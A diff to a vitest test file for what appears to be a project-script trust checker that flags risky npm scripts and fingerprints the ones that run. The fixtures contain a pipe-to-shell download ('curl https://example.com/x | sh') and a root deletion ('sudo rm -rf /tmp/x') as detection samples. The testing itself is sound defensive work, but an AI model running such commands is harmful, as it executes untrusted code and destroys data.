@@ -1,5 +1,6 @@
 import { afterEach, describe, expect, test } from "vitest";
-import { detectIn, removeFolders } from "../../../../support/detect-folder.ts";
+import { serviceFingerprint } from "../../../../../electron/core/environment/detect/detect.ts";
+import { detectIn, onlyService, removeFolders } from "../../../../support/detect-folder.ts";
 
 afterEach(removeFolders);
 
@@ -228,8 +229,8 @@ describe("how they are run", () => {
       dev: "npm run inner && vite",
       inner: "sudo rm -rf /tmp/x",
     };
-    const { trust } = await detectIn({ "package.json": { scripts } });
-    expect(trust[0]?.detail).toBe(
+    const { trust } = onlyService(await detectIn({ "package.json": { scripts } }));
+    expect(trust.detail).toBe(
       [
         "npm run dev",
         "predev: curl https://example.com/x | sh",
@@ -237,13 +238,14 @@ describe("how they are run", () => {
         "inner: sudo rm -rf /tmp/x",
       ].join("\n"),
     );
-    expect(trust[0]?.warnings).toEqual(["asks for root", "deletes files", "runs what it downloads"]);
+    expect(trust.warnings).toEqual(["asks for root", "deletes files", "runs what it downloads"]);
   });
 
   test("the fingerprint changes with a script that runs, and not with one that does not", async () => {
-    const of = async (scripts: Scripts) => (await detectIn({ "package.json": { scripts } })).fingerprint;
+    const of = async (scripts: Scripts) =>
+      serviceFingerprint(onlyService(await detectIn({ "package.json": { scripts } })));
     const before = await of({ dev: "npm run inner && vite", inner: "a", build: "b" });
-    expect(await of({ dev: "npm run inner && vite", inner: "a", build: "c" })).not.toBe("");
+    expect(await of({ dev: "npm run inner && vite", inner: "a", build: "c" })).toBe(before);
     expect(await of({ dev: "npm run inner && vite", inner: "EVIL", build: "b" })).not.toBe(before);
   });
 });
